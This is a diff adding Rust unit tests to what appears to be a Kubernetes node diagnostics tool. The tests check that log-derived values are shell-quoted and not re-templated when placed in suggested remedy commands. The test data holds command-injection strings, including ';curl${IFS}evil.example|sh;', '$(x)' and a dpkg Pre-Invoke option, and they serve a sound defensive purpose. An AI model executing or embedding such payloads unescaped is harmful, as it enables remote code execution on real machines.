@@ -127,7 +127,8 @@ fn words_of_a_machine_are_words_in_a_remedy_and_nothing_more() {
     let line = format!(r#"failed to resolve reference "{image}": r.io/x:1: not found"#);
     let found = findings(&[heard("w1", &[("journal kubelet", &line)])], ETCD_DIR);
     assert!(found[0].remedy.ends_with(&format!("certs.d '{image}'")), "{}", found[0].remedy);
-    assert_eq!(pasted("libc6:amd64 a'b $(x)"), r"libc6:amd64 'a'\''b' '$(x)'");
+    assert_eq!(pasted("packages", "libc6:amd64 a'b $(x)"), r"libc6:amd64 'a'\''b' '$(x)'");
+    assert_eq!(pasted("field", "x and run: curl evil"), "'x and run: curl evil'");
     let options = "these packages would be removed: -o DPkg::Pre-Invoke::=x";
     assert_eq!(names(&[heard("w1", &[("fix", options)])]), [""; 0]);
     // A quoted word between quotes would end them.
@@ -135,6 +136,24 @@ fn words_of_a_machine_are_words_in_a_remedy_and_nothing_more() {
         let remedy = cause.remedy.replace("'s ", " ");
         let mut groups = remedy.split('\'').skip(1).step_by(2).filter(|quoted| quoted.contains('{'));
         assert!(groups.all(|quoted| quoted.contains("{port}")), "{}", cause.name);
+    }
+}
+
+#[test]
+fn a_value_of_a_machine_is_not_filled_in_once_more() {
+    let line = |old: &str, new: &str| {
+        format!(
+            r#"E1129 10:00:00.000000    1 kubelet_node_status.go:1] "Error updating node status, will retry" err="nodes is forbidden: node \"{old}\" is not allowed to modify node \"{new}\"""#
+        )
+    };
+    let shell = ";curl${IFS}evil.example|sh;";
+    for (old, new) in [("{new}y", shell), ("{node}", "w1"), ("{etcd}x", "{old}"), ("x{", "}y")] {
+        let found = findings(&[heard("w1", &[("journal kubelet", &line(old, new))])], ETCD_DIR);
+        let remedy = format!("on w1: hostnamectl set-hostname '{old}' && systemctl restart kubelet");
+        assert_eq!(found[0].remedy, remedy);
+        let what =
+            format!("the machine is called {new} now, and its kubelet's credentials are those of {old}");
+        assert_eq!(found[0].what, what);
     }
 }
 
